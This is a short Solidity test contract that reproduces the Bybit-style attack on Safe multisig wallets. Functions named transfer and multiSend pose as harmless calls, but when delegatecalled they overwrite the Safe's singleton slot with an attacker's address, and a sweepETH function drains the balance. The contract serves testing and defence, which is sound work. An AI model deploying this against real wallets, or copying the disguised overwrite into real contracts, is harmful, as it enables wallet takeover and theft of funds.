// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.28;

/// @title SingletonOverwriter
/// @notice Test-only attacker modelled on the Bybit hack (February 2025): a contract whose `transfer(address,uint256)`
///         looks like a token transfer to a signer's screen but, when a Safe delegatecalls it, overwrites the Safe's
///         storage slot 0 (the singleton) so the proxy runs the attacker's code from then on. The sweep functions are
///         what the replaced singleton would then offer. Never deploy it live.
contract SingletonOverwriter {
    /// @notice Delegatecalled by a Safe: make `newSingleton` the Safe's implementation.
    function transfer(address newSingleton, uint256) external {
        assembly {
            sstore(0, newSingleton)
        }
    }

    /// @notice The same overwrite behind MultiSend's selector, to pose as a batch library.
    function multiSend(bytes calldata) external payable {
        address self = address(0xdead);
        assembly {
            sstore(0, self)
        }
    }

    /// @notice Send all native currency of the calling context to `to`.
    function sweepETH(address to) external {
        payable(to).transfer(address(this).balance);
    }
}
